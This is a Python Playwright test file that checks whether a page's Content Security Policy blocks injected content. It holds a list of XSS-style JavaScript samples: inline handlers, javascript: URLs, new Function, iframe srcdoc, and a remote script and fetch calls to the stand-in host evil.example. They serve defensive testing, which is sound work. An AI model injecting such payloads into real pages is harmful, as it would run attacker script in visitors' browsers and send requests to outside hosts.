"""What the policy of a page stops in a real browser, should a check fail to see it."""

from __future__ import annotations

import pytest
from playwright.sync_api import Route

from browser.watched import Visit

INTRUDERS = {
    "a handler": 'document.body.insertAdjacentHTML(\'beforeend\', \'<img src="no/such.png" alt="" onerror="window.ran = 1">\')',
    "a script in the page": "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' }))",
    "an address": "Object.assign(document.createElement('a'), { href: 'javascript:window.ran = 1' }).click()",
    "words that become code": "{ try { new Function('window.ran = 1')(); } catch {} }",
    "a style that fetches": "document.body.insertAdjacentHTML('beforeend', '<p style=\"background: url(https://evil.example/b.png)\">x</p>')",
    "a script from elsewhere": "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
    "a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.ran = 1</script>\"></iframe>')",
    "words sent away": "fetch('https://evil.example/').catch(() => {})",
}


@pytest.mark.parametrize("path", ["algorithms/pca/", "404.html"])
@pytest.mark.parametrize("intruder", INTRUDERS)
def test_what_got_into_a_page_runs_nothing_and_fetches_nothing(visit: Visit, path: str, intruder: str) -> None:
    watched = visit()
    page = watched.open(path)
    asked: list[str] = []

    def reached(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    page.route("https://evil.example/**", reached)
    page.evaluate(f"() => {{ setTimeout(() => {{ {INTRUDERS[intruder]} }}); }}")  # what runs later is the page's own
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran === undefined")
    assert asked == []
    assert any("Content Security Policy" in line for line in watched.said) or "Function" in INTRUDERS[intruder]
